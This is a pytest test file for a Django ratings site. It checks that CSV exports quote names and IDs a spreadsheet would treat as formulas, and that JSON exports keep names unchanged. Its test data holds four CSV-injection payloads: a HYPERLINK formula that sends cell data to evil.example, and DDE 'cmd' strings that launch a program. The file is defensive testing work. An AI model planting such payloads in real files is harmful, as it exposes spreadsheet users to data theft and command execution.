"""Exports opened in a spreadsheet run nothing (CSV injection): a name or id that a spreadsheet would read
as a formula (= + - @, a tab, a carriage return) starts with a quote in the CSV files, of the ranking pages
and of `manage.py export_ratings`; the JSON export, which no spreadsheet runs, keeps the text as it is.
"""

import csv
import io
import json
import os

import pytest
from django.core.management import call_command
from hypothesis import given, settings
from hypothesis import strategies as st

from lib.spreadsheet import FORMULA_STARTS, spreadsheet_safe
from tests.bundles import Bundle
from tests.worlds import bundle_rated

EXAMPLES = int(os.environ.get("FUZZ_EXAMPLES", "0"))

# Names that would run: a hyperlink that sends data away, a command, arithmetic on other cells.
FORMULAS = {
    "2001": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "2002": "+cmd|' /C calc'!A0",
    "2003": "-2+3+cmd|' /C calc'!A0",
    "2004": '@SUM(1+1)*cmd|"/C calc"!A0',
}
ID_FORMULA = "-1-1"  # a membership number may start with a hyphen: a spreadsheet would compute -2


@settings(max_examples=EXAMPLES or 200, derandomize=not EXAMPLES, database=None)
@given(start=st.sampled_from(FORMULA_STARTS), rest=st.text())
def test_any_text_a_spreadsheet_would_run_is_quoted(start, rest):
    assert spreadsheet_safe(start + rest) == "'" + start + rest


@settings(max_examples=EXAMPLES or 200, derandomize=not EXAMPLES, database=None)
@given(text=st.text())
def test_other_text_is_left_as_it_is(text):
    if not text.startswith(FORMULA_STARTS):
        assert spreadsheet_safe(text) == text


@pytest.fixture
def formula_names_rated(db, tmp_path):
    """The default bundle with players whose names (2001-2004) or membership number (-1-1) a spreadsheet would run,
    each beating four opponents; imported and rated."""
    bundle = Bundle(tmp_path)
    opponents = ["1001", "1002", "1003", "1004"]
    for number, name in FORMULAS.items():
        bundle.add_player(number, name, "DE")
    bundle.add_player(ID_FORMULA, "Hyphen Hannah", "DE")
    for index, number in enumerate([*FORMULAS, ID_FORMULA]):
        for offset, opponent in enumerate(opponents):
            bundle.add_match("E1", 100 + 10 * index + offset, number, opponent, 2, 0, 0)
    bundle_rated(bundle)


def rows_by_name(text: str) -> dict[str, list[str]]:
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0] == ["rank", "player_id", "name", "country", "region", "rating", "matches", "ranked"]
    return {row[2]: row for row in rows[1:]}


def web_csv(client) -> str:
    ranked = client.get("/rankings/constructed/?_export=csv")
    unranked = client.get("/rankings/constructed/?list=unranked&_export=csv")
    text = b"".join(ranked.streaming_content).decode()
    return text + "".join(b"".join(unranked.streaming_content).decode().splitlines(keepends=True)[1:])


def command_csv(*options) -> str:
    out = io.StringIO()
    call_command("export_ratings", "--category", "constructed", *options, stdout=out)
    return out.getvalue()


@pytest.mark.parametrize("source", ["web page", "export_ratings"])
def test_a_csv_export_quotes_every_name_and_id_a_spreadsheet_would_run(client, formula_names_rated, source):
    rows = rows_by_name(web_csv(client) if source == "web page" else command_csv())

    for name in FORMULAS.values():
        assert "'" + name in rows, sorted(rows)
        assert not rows["'" + name][1].startswith("'")  # their numbers are plain
    assert rows["Hyphen Hannah"][1] == "'" + ID_FORMULA
    for row in rows.values():  # no cell of any row starts a formula
        assert not any(cell.startswith(FORMULA_STARTS) for cell in row), row


def test_the_json_export_keeps_names_as_they_are(client, formula_names_rated):
    out = io.StringIO()
    call_command("export_ratings", "--category", "constructed", "--format", "json", stdout=out)
    web = client.get("/rankings/constructed/?list=unranked&_export=json")

    names = {record["name"] for record in json.loads(out.getvalue())}
    web_names = {record["name"] for record in json.loads(b"".join(web.streaming_content))}

    assert set(FORMULAS.values()) <= names
    assert set(FORMULAS.values()) <= web_names  # four matches each: on the unranked list
